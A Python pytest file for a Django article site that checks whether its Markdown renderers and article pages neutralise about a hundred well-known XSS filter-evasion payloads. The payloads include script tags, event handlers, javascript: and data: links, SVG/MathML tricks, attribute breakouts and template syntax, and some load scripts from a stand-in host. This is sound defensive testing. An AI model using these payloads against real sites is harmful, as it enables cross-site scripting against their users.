"""Known injection payloads must come out of the Markdown renderers, and off the article page, inert.

The checks parse the output with the standard library's HTML parser, which unescapes attribute values once,
exactly as a browser does, so each check sees the URL or attribute a browser would act on.
"""

import json
import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from django.conf import settings

from articles.importing import article_import
from articles.markdown import render_inline_markdown, render_markdown
from articles.text_format import MARKER
from tests.factories import make_article, make_article_data

REL = "noopener noreferrer nofollow"
# The allow-lists, written out here rather than imported, so that widening the renderer's fails a test.
INLINE_TAGS = frozenset({"a", "em", "strong", "code", "sub", "sup"})
BLOCK_TAGS = INLINE_TAGS | {"p", "ul", "ol", "li", "blockquote", "br"}
LINK_ATTRIBUTES = frozenset({"href", "title", "rel"})
DANGEROUS_TAGS = frozenset(
    {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "meta", "base", "link", "img"}
)
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite", "srcset"}
)
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")

# (test id, payload). Ids name the trick; the payloads are the well-known ones from XSS filter-evasion lists.
PAYLOADS = [
    # script and style elements
    ("script-tag", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-nested-in-itself", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-with-src", "<script src=https://evil.example/x.js></script>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-with-nul", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-import-upper-case", "<STYLE>@import 'https://evil.example/x.css';</STYLE>"),
    # event-handler attributes
    ("img-onerror-unquoted", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-newlines", "<img\nsrc=x\nonerror=alert(1)>"),
    ("img-onerror-tabs", "<img\tsrc=x\tonerror\t=\talert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover-double-quotes", '<div onmouseover="alert(1)">hover</div>'),
    ("p-onmouseover-single-quotes", "<p onmouseover='alert(1)'>hover</p>"),
    ("allowed-tag-with-handler", "<em onmouseover=alert(1)>x</em> <a href=https://a.example onclick=alert(1)>y</a>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    # embedding, forms and document-level elements
    ("iframe-javascript-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-data-svg", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", "<button formaction=javascript:alert(1)>go</button>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>"),
    ("link-import", "<link rel=import href=data:text/html,<script>alert(1)</script>>"),
    # SVG
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-a-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
    (
        "svg-animate-href",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    ),
    ("svg-set-handler", "<svg><set attributeName=onmouseover to=alert(1) /></svg>"),
    # MathML
    (
        "math-maction-statusline",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x<mtext>y</mtext></maction></math>',
    ),
    ("math-mglyph-style-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-mi-xlink-data", '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>'),
    # dangerous schemes in Markdown links
    ("link-javascript", "[x](javascript:alert(1))"),
    ("link-javascript-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("link-decimal-entity", "[x](&#106;avascript:alert(1))"),
    ("link-hex-entity", "[x](&#x6A;avascript:alert(1))"),
    ("link-all-entities", "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))"),
    ("link-named-colon-entity", "[x](javascript&colon;alert(1))"),
    ("link-embedded-tab", "[x](java\tscript:alert(1))"),
    ("link-embedded-newline-entity", "[x](java&#x0A;script:alert(1))"),
    ("link-leading-spaces", "[x](   javascript:alert(1))"),
    ("link-leading-control-entity", "[x](&#x01;javascript:alert(1))"),
    ("link-url-encoded-scheme", "[x](%6A%61vascript:alert(1))"),
    ("link-url-encoded-colon", "[x](javascript%3Aalert(1))"),
    ("link-angle-brackets", "[x](<javascript:alert(1)>)"),
    ("link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link-data-upper-case", "[x](DATA:text/html,<script>alert(1)</script>)"),
    ("link-vbscript", "[x](vbscript:msgbox(1))"),
    ("link-reference-numbered", "[x][1]\n\n[1]: javascript:alert(1)"),
    ("link-reference-named", '[x][evil]\n\n[evil]: javascript:alert(1) "title"'),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink-quote-breakout", '<https://a.example/"onmouseover="alert(1)>'),
    # dangerous schemes in Markdown images
    ("image-javascript", "![x](javascript:alert(1))"),
    ("image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("image-vbscript-mixed-case", "![x](VbScRiPt:msgbox(1))"),
    ("image-hex-entity", "![x](&#x6A;avascript:alert(1))"),
    ("image-inside-link", "[![x](javascript:alert(1))](javascript:alert(2))"),
    # attribute breakouts
    ("link-title-breakout-double-quotes", '[x](https://a.example "x\\" onmouseover=\\"alert(1)")'),
    ("link-title-breakout-single-quotes", "[x](https://a.example 'x\\' onmouseover=\\'alert(1)')"),
    ("link-href-breakout", '[x](https://a.example/" onmouseover="alert(1))'),
    ("link-text-carries-html", "[<img src=x onerror=alert(1)>](https://a.example)"),
    ("image-alt-breakout", '![x" onerror="alert(1)](https://a.example/i.png)'),
    ("image-title-breakout", '![x](https://a.example/i.png "t\\" onerror=\\"alert(1)")'),
    # raw anchors
    ("raw-a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("raw-a-named-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("raw-a-leading-space-entity", '<a href="&#x20;&#106;avascript:alert(1)">x</a>'),
    ("raw-a-data-single-quotes", "<a href='data:text/html,<script>alert(1)</script>'>x</a>"),
    ("raw-a-opener-and-target", '<a href="https://evil.example" rel="opener" target="_blank">x</a>'),
    ("raw-a-inside-code", '<code><a href="https://evil.example" rel="opener">x</a></code>'),
    # comments, CDATA, processing instructions
    ("comment-hiding-script", "<!-- <script>alert(1)</script> -->"),
    ("comment-early-close", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata-hiding-script", "<![CDATA[<script>alert(1)</script>]]>"),
    ("cdata-breakout", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("processing-instruction", '<?xml version="1.0"?><script>alert(1)</script>'),
    # template syntax, which must stay literal text
    ("django-variable", "{{ 7*7 }}"),
    ("django-debug-tag", "{% debug %}"),
    ("django-template-mixture", "{% load static %}{{ request.META }}{# hidden #}"),
    ("other-template-syntaxes", "${7*7} #{7+7} <%= 7+7 %>"),
    # Markdown nesting HTML, and text that merely looks like markup
    ("emphasis-around-img", "*<img src=x onerror=alert(1)>*"),
    ("emphasis-around-svg-and-script", "_<svg onload=alert(1)>_ and **<script>alert(1)</script>**"),
    ("strong-link-with-script-text", "**[click <script>alert(1)</script>](https://a.example)**"),
    ("emphasis-around-raw-javascript-link", "**<a href='javascript:alert(1)'>x</a>**"),
    ("code-span-script", "`<script>alert(1)</script>`"),
    ("pre-escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("pre-escaped-iframe-with-url", '&lt;iframe src="https://evil.example/x"&gt;&lt;/iframe&gt;'),
    ("linkified-url-breakout", 'see https://evil.example/"><script>alert(1)</script>'),
    ("html-block-with-markdown", "<div>\n*markdown* <script>alert(1)</script>\n</div>"),
    ("list-item-with-handler", "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))"),
    ("blockquote-with-iframe", "> <iframe src=javascript:alert(1)></iframe>"),
]
PAYLOAD_IDS = [name for name, _ in PAYLOADS]
PAYLOAD_BY_ID = dict(PAYLOADS)
RENDERERS = [
    pytest.param(render_markdown, BLOCK_TAGS, id="block"),
    pytest.param(render_inline_markdown, INLINE_TAGS, id="inline"),
]

# Payloads that must survive as visible text, not markup and not evaluated: (test id, text a reader sees).
VISIBLE_TEXT = [
    ("script-nested-in-itself", "<script>alert(1)"),
    ("django-variable", "{{ 7*7 }}"),
    ("django-debug-tag", "{% debug %}"),
    ("django-template-mixture", "{% load static %}{{ request.META }}{# hidden #}"),
    ("other-template-syntaxes", "${7*7} #{7+7} <%= 7+7 %>"),
    ("pre-escaped-script", "<script>alert(1)</script>"),
    ("pre-escaped-iframe-with-url", '<iframe src="https://evil.example/x"></iframe>'),
    ("autolink-quote-breakout", 'https://a.example/"onmouseover="alert(1)'),
]


class _Markup(HTMLParser):
    """Elements, text and anything else (comments, declarations) in a piece of HTML, as a browser reads it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, [(attribute, value)]) in document order; names lower-cased, values unescaped
        self.text = []
        self.other = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.other.append(f"<!{decl}>")

    def unknown_decl(self, data):
        self.other.append(f"<![{data}]>")

    def handle_pi(self, data):
        self.other.append(f"<?{data}>")


def _parse(markup):
    parser = _Markup()
    parser.feed(str(markup))
    parser.close()
    return parser


def _browser_url(value):
    """The URL as a scheme check must see it: without whitespace or control characters anywhere, lower-cased."""
    return "".join(c for c in value if c.isprintable() and not c.isspace()).lower()


def _url_problems(tag, name, value):
    if name not in URL_ATTRIBUTES or value is None:
        return []
    url = _browser_url(value)
    problems = []
    if url.startswith(DANGEROUS_SCHEMES):
        problems.append(f"<{tag} {name}={value!r}> has a dangerous scheme")
    scheme = SCHEME.match(url)
    if scheme and scheme.group(1) not in SAFE_SCHEMES:
        problems.append(f"<{tag} {name}={value!r}> has the scheme {scheme.group(1)!r}, which is not allowed")
    return problems


def _is_external(url):
    return url.startswith(("http:", "https:", "//"))


def _fragment_problems(markup, allowed_tags):
    """Everything in renderer output that could execute, load or navigate, or that the allow-list forbids."""
    parsed = _parse(markup)
    problems = [f"{other!r} is not text or an element" for other in parsed.other]
    for tag, attrs in parsed.elements:
        if tag in DANGEROUS_TAGS:
            problems.append(f"<{tag}> element")
        if tag not in allowed_tags:
            problems.append(f"<{tag}> is not in the allow-list")
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            problems.append(f"<{tag}> repeats an attribute: {names}")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"<{tag}> has the event handler {name}={value!r}")
            if tag != "a" or name not in LINK_ATTRIBUTES:
                problems.append(f"<{tag}> has the attribute {name}, which is not allowed")
            problems.extend(_url_problems(tag, name, value))
        if tag == "a" and dict(attrs).get("rel") != REL:
            problems.append(f"<a {attrs}> lacks rel={REL!r}")
    return problems


def _text(markup):
    return "".join(_parse(markup).text)


def test_the_corpus_holds_at_least_45_distinct_payloads():
    assert len(PAYLOADS) >= 45
    assert len(set(PAYLOAD_IDS)) == len(PAYLOAD_IDS), "two payloads share a test id"
    assert len(set(PAYLOAD_BY_ID.values())) == len(PAYLOADS), "a payload is listed twice"


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href="jav&#x09;ascript:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href=" &#x4A;AVASCRIPT:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href="data:text/html,x" rel="noopener noreferrer nofollow">x</a>',
        '<a href="VBScript:msgbox(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href="https://a.example">no rel</a>',
        '<a href="https://a.example" rel="opener">weak rel</a>',
        '<a href="https://a.example" rel="noopener noreferrer nofollow" target="_blank">x</a>',
        "<div>not allowed</div>",
        "<img src=/static/x.png>",
        "<!-- a comment -->",
        "<![CDATA[x]]>",
    ],
)
def test_the_inertness_check_itself_flags_executable_or_forbidden_markup(markup):
    assert _fragment_problems(markup, BLOCK_TAGS)


@pytest.mark.parametrize(("render", "allowed_tags"), RENDERERS)
@pytest.mark.parametrize("payload", [payload for _, payload in PAYLOADS], ids=PAYLOAD_IDS)
def test_payload_renders_inert(payload, render, allowed_tags):
    html = render(payload)
    assert _fragment_problems(html, allowed_tags) == [], html


@pytest.mark.parametrize(("render", "allowed_tags"), RENDERERS)
@pytest.mark.parametrize(("name", "text"), VISIBLE_TEXT, ids=[name for name, _ in VISIBLE_TEXT])
def test_markup_looking_text_stays_visible_as_text(name, text, render, allowed_tags):
    html = render(PAYLOAD_BY_ID[name])
    assert text in _text(html), html
    assert _fragment_problems(html, allowed_tags) == [], html


@pytest.mark.parametrize(("render", "allowed_tags"), RENDERERS)
@pytest.mark.parametrize(
    ("name", "attribute"),
    [
        ("link-title-breakout-double-quotes", "title"),
        ("link-title-breakout-single-quotes", "title"),
        ("link-href-breakout", "href"),
    ],
)
def test_an_attribute_breakout_stays_inside_the_attribute_value(name, attribute, render, allowed_tags):
    html = render(PAYLOAD_BY_ID[name])
    [link] = [dict(attrs) for tag, attrs in _parse(html).elements if tag == "a"]
    assert set(link) == {"href", "rel", attribute}
    assert "onmouseover" in link[attribute] and link["href"].startswith("https://a.example")
    assert _fragment_problems(html, allowed_tags) == [], html


@pytest.mark.parametrize(("render", "allowed_tags"), RENDERERS)
@pytest.mark.parametrize("name", ["link-named-colon-entity", "raw-a-named-colon-entity", "link-url-encoded-scheme"])
def test_an_encoded_scheme_never_becomes_a_scheme(name, render, allowed_tags):
    """`javascript&colon;` and `%6A…` are not schemes to a browser: a link that survives is a path on this
    site, and one the allow-list cannot read as a plain path (a colon in its first segment) is dropped."""
    html = render(PAYLOAD_BY_ID[name])
    hrefs = [dict(attrs).get("href") for tag, attrs in _parse(html).elements if tag == "a"]
    assert all(href is not None and not SCHEME.match(_browser_url(href)) for href in hrefs), html
    assert "x" in _text(html)


@pytest.mark.parametrize(("render", "allowed_tags"), RENDERERS)
def test_safe_markdown_still_renders_as_markup(render, allowed_tags):
    html = render('*Calm* **breathing** `code` [a guide](https://example.org/guide "Guide") and www.example.org')
    elements = [(tag, dict(attrs)) for tag, attrs in _parse(html).elements]
    tags = [tag for tag, _ in elements]
    assert {"em", "strong", "code"} <= set(tags) and tags.count("a") == 1
    links = [attrs for tag, attrs in elements if tag == "a"]
    assert links[0] == {"href": "https://example.org/guide", "title": "Guide", "rel": REL}
    assert "and www.example.org" in html  # only what the author linked becomes a link
    assert _fragment_problems(html, allowed_tags) == []


@pytest.mark.parametrize("render", [render_markdown, render_inline_markdown], ids=["block", "inline"])
def test_code_spans_are_escaped_once(render):
    html = render("Type `<script>` and `a&b` literally")
    assert "<code>&lt;script&gt;</code>" in html and "<code>a&amp;b</code>" in html


# --- the article page, end to end --------------------------------------------------------------------------------

# The plain-text article format holds one unit or lead per line, and a bracketed number or [LLM] would be read
# as a provenance marker; a NUL cannot be stored in PostgreSQL. Units carry every payload that fits.
UNIT_PAYLOADS = [
    payload
    for _, payload in PAYLOADS
    if not any(c in payload for c in "\n\r\x00") and not MARKER.search(payload) and payload.strip()
]
LEAD = " ".join(
    PAYLOAD_BY_ID[name]
    for name in [
        "img-onerror-unquoted",
        "link-javascript-mixed-case",
        "link-title-breakout-double-quotes",
        "svg-a-xlink-href",
        "math-maction-statusline",
        "django-variable",
        "django-debug-tag",
        "emphasis-around-img",
        "raw-a-inside-code",
        "script-nested-in-itself",
    ]
)
HEADINGS = ['<script>alert("heading")</script>', '"><img src=x onerror=alert(1)>', "{{ 7*7 }} <svg onload=alert(1)>"]
TITLE = 'Payload article <script>alert("title")</script>'
ALT_TEXT = '" onerror="alert(1)" x="<script>alert(1)</script>'
SOURCE_TITLE = '"><script>alert("source")</script><img src=x onerror=alert(1)> {{ 7*7 }}'
VIDEO_TITLE = '<a href="javascript:alert(1)">video</a>'


def _payload_article_data():
    data = make_article_data(slug="payload-article", title=TITLE, lead=LEAD)
    figure, *prose, tools = data["sections"]
    figure["blocks"][0]["alt_text"] = ALT_TEXT
    figure["blocks"][0]["units"][0]["text"] = PAYLOAD_BY_ID["svg-onload"]
    for section, heading in zip(prose, HEADINGS, strict=True):
        section["heading"] = heading
    paragraph, example = prose[0]["blocks"]
    paragraph["units"] = [
        {"text": payload, "provenance": "llm" if i % 2 else [1], "end": "."} for i, payload in enumerate(UNIT_PAYLOADS)
    ]
    example["units"][0]["text"] = PAYLOAD_BY_ID["image-alt-breakout"]
    blocks = {block["kind"]: block for block in tools["blocks"]}
    blocks["smart"]["units"][0].update(
        goal=PAYLOAD_BY_ID["link-javascript"],
        objective=PAYLOAD_BY_ID["img-onerror-quoted"] + " " + PAYLOAD_BY_ID["link-hex-entity"],
        text=PAYLOAD_BY_ID["svg-animate-href"],
    )
    blocks["key_terms"]["units"][0].update(
        term=PAYLOAD_BY_ID["raw-a-javascript"], text=PAYLOAD_BY_ID["math-mglyph-style-mutation"]
    )
    blocks["framing"]["units"][0]["text"] = PAYLOAD_BY_ID["iframe-srcdoc"]
    blocks["questions"]["units"][0]["text"] = PAYLOAD_BY_ID["link-title-breakout-single-quotes"]
    data["sources"][0]["title"] = SOURCE_TITLE
    data["sources"][2]["title"] = VIDEO_TITLE
    return data


def _page_profile(markup):
    """What a whole page holds that could execute, load or navigate, to compare with a page of a clean article."""
    parsed = _parse(markup)
    risky = Counter()  # dangerous elements by their attribute names, and every event handler with its code
    problems = []
    for tag, attrs in parsed.elements:
        if tag in DANGEROUS_TAGS:
            risky[(tag, tuple(sorted(name for name, _ in attrs)))] += 1
        for name, value in attrs:
            if name.startswith("on"):
                risky[(tag, name, value)] += 1
            problems.extend(_url_problems(tag, name, value))
        attrs = dict(attrs)
        if tag in {"script", "img"} and not (attrs.get("src") or "").startswith("/static/"):
            problems.append(f"<{tag} {attrs}> is not the site's own")
        # The page's own address (canonical, at SITE_URL) loads nothing; any other link tag must be the site's.
        own = attrs.get("rel") == "canonical" and (attrs.get("href") or "").startswith(settings.SITE_URL + "/")
        if (
            tag == "link"
            and not own
            and not (attrs.get("href") or "").startswith(("/static/", "/articles/", "/feeds/"))
        ):
            problems.append(f"<link {attrs}> is not the site's own")
        if tag == "a" and _is_external(_browser_url(attrs.get("href") or "")) and attrs.get("rel") != REL:
            problems.append(f"<a {attrs}> lacks rel={REL!r}")
    return {
        "tags": {tag for tag, _ in parsed.elements},
        "attributes": {(tag, name) for tag, attrs in parsed.elements for name, _ in attrs},
        "risky": risky,
        "other": Counter(parsed.other),
        "problems": problems,
        "text": "".join(parsed.text),
    }


@pytest.mark.django_db
def test_an_article_full_of_payloads_serves_an_inert_page_and_plain_json(client):
    clean = _page_profile(client.get(make_article().get_absolute_url()).content.decode())
    assert clean["problems"] == []
    # article.js, sources.js (back-links), video.js (players on request), cite.js (copy buttons) and suggest.js
    # (the suggestion form's character counts), all the site's own
    assert clean["risky"][("script", ("defer", "src"))] == 5, "the clean page should load the site's own scripts"

    data = _payload_article_data()
    article, outcome = article_import(data=data)
    assert outcome == "created"
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    page = _page_profile(response.content.decode())

    assert page["problems"] == []
    assert page["risky"] == clean["risky"], "the payloads added or removed executable markup"
    assert page["tags"] <= clean["tags"] | BLOCK_TAGS
    assert page["attributes"] <= clean["attributes"] | {("a", name) for name in LINK_ATTRIBUTES}
    assert page["other"] == clean["other"]
    # Plain-text fields are escaped, and template syntax is shown, never evaluated.
    for text in [TITLE, *HEADINGS, "{{ 7*7 }}", "{% debug %}", VIDEO_TITLE, SOURCE_TITLE]:
        assert text in page["text"]
    figure_images = [dict(attrs) for tag, attrs in _parse(response.content.decode()).elements if tag == "img"]
    assert [img["alt"] for img in figure_images] == [ALT_TEXT]

    response = client.get(f"/articles/{article.slug}.json")
    assert response.status_code == 200
    assert response["Content-Type"].split(";")[0] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    served = json.loads(response.content)
    assert served["title"] == TITLE and served["lead"] == LEAD
    assert [s["heading"] for s in served["sections"][1:4]] == HEADINGS
    assert served["sources"][0]["title"] == SOURCE_TITLE
    assert [u["text"] for u in served["sections"][1]["blocks"][0]["units"]] == UNIT_PAYLOADS


@pytest.mark.parametrize("render", [render_markdown, render_inline_markdown])
@pytest.mark.parametrize("shape", ["[", "[a", "![", "[x]["])
def test_thousands_of_brackets_show_as_brackets(render, shape):
    """Unclosed brackets are read one by one to the end of the text: past a few dozen they are taken as the
    literals they are, so a sentence of them costs what its length does (4,000 took 2.5 s before)."""
    text = shape * (4000 // len(shape))
    html = str(render(text))
    assert html.count("[") == text.count("[") and "\\[" not in html and "<a" not in html


def test_links_and_code_among_many_brackets_stay_as_written():
    text = "See [the guide](https://example.org/a) and " + "[" * 40 + " and `a[0]` and [also](https://example.org/b)."
    text += " Also [the entry](https://en.wikipedia.org/wiki/Compassion_(psychology))."
    html = str(render_inline_markdown(text))
    assert '<a href="https://example.org/a" rel="noopener noreferrer nofollow">the guide</a>' in html
    assert 'href="https://en.wikipedia.org/wiki/Compassion_(psychology)"' in html
    assert '<a href="https://example.org/b" rel="noopener noreferrer nofollow">also</a>' in html
    assert "<code>a[0]</code>" in html and "[" * 40 in html


def test_a_list_nested_hundreds_deep_is_shown_as_text_not_an_error():
    text = "".join("  " * depth + "- synthetic <b>item</b>\n" for depth in range(600))
    html = str(render_markdown(text))
    assert html.startswith("<p>") and "synthetic &lt;b&gt;item&lt;/b&gt;" in html and "<b>" not in html
    assert str(render_markdown("*calm*")) == "<p><em>calm</em></p>"  # the next text renders as ever


@pytest.mark.parametrize("shape", ["\\\\[", "\\\\\\\\[", "a\\\\[b"])
def test_a_bracket_after_an_escaped_backslash_is_defused_too(shape):
    """An escaped backslash, then a bracket ("\\\\["), is a bracket Markdown still reads on from: left as it was,
    thousands of them took seconds. After defusing, every bracket stands after an odd run of backslashes, and the
    text shows as written."""
    from articles.markdown import _defuse_brackets

    text = shape * (4000 // len(shape))
    defused = _defuse_brackets(text)
    runs = re.findall(r"(\\*)\[", defused)
    assert len(runs) == text.count("[") and all(len(run) % 2 == 1 for run in runs)
    html = str(render_inline_markdown(text))
    assert html.count("[") == text.count("[") and "<a" not in html
